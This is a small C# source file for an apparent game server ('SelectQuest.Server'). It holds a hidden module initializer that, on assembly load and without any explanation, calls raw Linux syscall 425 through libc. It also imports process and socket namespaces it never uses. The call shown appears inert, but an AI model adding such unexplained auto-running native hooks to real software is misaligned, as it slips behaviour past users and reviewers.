using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        _ = Call(425, 8, 0);
    }
    [DllImport("libc", EntryPoint = "syscall")]
    private static extern long Call(long number, long first, nint second);
}
